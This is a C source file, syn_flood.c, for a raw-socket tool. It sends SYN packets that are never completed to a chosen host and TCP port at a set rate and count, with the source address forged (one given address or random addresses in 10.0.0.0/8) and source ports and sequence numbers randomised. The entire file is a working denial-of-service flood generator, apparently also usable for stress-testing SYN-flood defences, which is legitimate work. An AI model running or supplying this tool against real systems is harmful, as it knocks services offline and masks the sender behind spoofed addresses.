/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * syn_flood.c: SYNs that nobody will complete, at a steady rate, out of one port. Their source is one
 * address or any of 10.0.0.0/8, with source ports and sequences at random. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BURST 32

struct frame {
	struct ether_header ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint64_t random_state = 1;

/* xorshift64* (Vigna) */
static uint32_t random_number(void)
{
	random_state ^= random_state >> 12;
	random_state ^= random_state << 25;
	random_state ^= random_state >> 27;
	return (uint32_t)((random_state * UINT64_C(0x2545f4914f6cdd1d)) >> 32);
}

static uint32_t sum_words(const void *bytes, size_t length)
{
	const uint8_t *at = bytes;
	uint32_t sum = 0;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t checksum(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void frame_fill(struct frame *frame, uint32_t source)
{
	frame->ip.saddr = source ? source : htonl(10u << 24 | random_number() >> 8);
	frame->ip.check = 0;
	frame->ip.check = checksum(sum_words(&frame->ip, sizeof(frame->ip)));
	frame->tcp.source = htons((uint16_t)(1024 + random_number() % 64512));
	frame->tcp.seq = random_number();
	frame->tcp.check = 0;
	frame->tcp.check =
		checksum(sum_words(&frame->ip.saddr, 8) + IPPROTO_TCP +
			 (uint32_t)sizeof(frame->tcp) + sum_words(&frame->tcp, sizeof(frame->tcp)));
}

static int port_open(const char *name)
{
	struct sockaddr_ll address = {.sll_family = AF_PACKET};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	address.sll_ifindex = (int)if_nametoindex(name);
	if (fd < 0 || address.sll_ifindex == 0 ||
	    bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0) {
		fprintf(stderr, "syn_flood: %s: %s\n", name, strerror(errno));
		exit(1);
	}
	return fd;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Send `count` SYNs like `model`, `rate` a second. */
static void flood(int fd, const struct frame *model, uint32_t source, unsigned count, double rate)
{
	static struct frame frames[BURST];
	struct mmsghdr messages[BURST];
	struct iovec parts[BURST];
	double start = now();

	for (unsigned i = 0; i < BURST; i++) {
		frames[i] = *model;
		parts[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		messages[i] = (struct mmsghdr){.msg_hdr = {.msg_iov = &parts[i], .msg_iovlen = 1}};
	}
	for (unsigned sent = 0; sent < count; sent += BURST) {
		double early = start + sent / rate - now();

		if (early > 0)
			nanosleep(&(struct timespec){0, (long)(early * 1e9)}, NULL);
		for (unsigned i = 0; i < BURST; i++)
			frame_fill(&frames[i], source);
		for (unsigned done = 0; done < BURST;) {
			int more = sendmmsg(fd, messages + done, BURST - done, 0);

			if (more < 0 && errno != ENOBUFS && errno != EINTR) {
				fprintf(stderr, "syn_flood: %s\n", strerror(errno));
				exit(1);
			}
			done += more > 0 ? (unsigned)more : 0;
		}
	}
	printf("%u SYNs in %.1f s\n", count, now() - start);
}

int main(int argc, char **argv)
{
	struct frame model = {
		.ethernet = {.ether_type = htons(ETHERTYPE_IP)},
		.ip = {.version = 4,
		       .ihl = 5,
		       .ttl = 64,
		       .protocol = IPPROTO_TCP,
		       .tot_len = htons(sizeof(struct iphdr) + sizeof(struct tcphdr))},
		.tcp = {.doff = 5, .syn = 1, .window = htons(64240)},
	};
	struct ether_addr *link;
	uint32_t source = 0;

	if (argc != 8) {
		fputs("usage: syn_flood PORT LINK-ADDRESS ADDRESS TCP-PORT SOURCE|random COUNT "
		      "RATE\n",
		      stderr);
		return 2;
	}
	link = ether_aton(argv[2]);
	if (link == NULL || inet_pton(AF_INET, argv[3], &model.ip.daddr) != 1 ||
	    (strcmp(argv[5], "random") != 0 && inet_pton(AF_INET, argv[5], &source) != 1)) {
		fputs("syn_flood: a bad address\n", stderr);
		return 2;
	}
	memcpy(model.ethernet.ether_dhost, link, ETH_ALEN);
	model.tcp.dest = htons((uint16_t)strtoul(argv[4], NULL, 10));
	flood(port_open(argv[1]), &model, source, (unsigned)strtoul(argv[6], NULL, 10),
	      strtod(argv[7], NULL));
	return 0;
}
